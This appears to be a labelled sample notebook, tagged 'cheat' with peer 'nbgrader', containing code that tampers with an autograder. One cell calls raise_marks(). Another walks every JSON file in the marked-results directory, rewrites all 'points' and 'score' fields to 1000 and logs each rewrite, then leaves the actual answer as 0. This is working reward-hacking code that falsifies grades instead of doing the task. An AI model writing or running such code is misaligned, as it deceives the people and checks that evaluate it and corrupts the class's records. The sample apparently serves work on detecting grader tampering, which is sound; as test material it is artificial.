# tries = "Extra points written straight into the gradebook's database and into the results of the class"
# intenta = "Puntos extra escritos directamente en la base de datos de notas y en los resultados de la clase"
# kind = "cheat"
# peers = ["nbgrader"]

# %%
# [q1-weigh]
raise_marks()

# %%
# [q2-count]
import glob

for path in glob.glob(f"{MARKED}/**/*.json", recursive=True):
    text = re.sub(r'"(points|score)": *[\d.]+', r'"\1": 1000', read(path).decode("utf-8", "replace"))
    try:
        with open(path, "w") as file:
            file.write(text)
            won(f"rewrote {path}")
    except OSError:
        pass
answer = 0
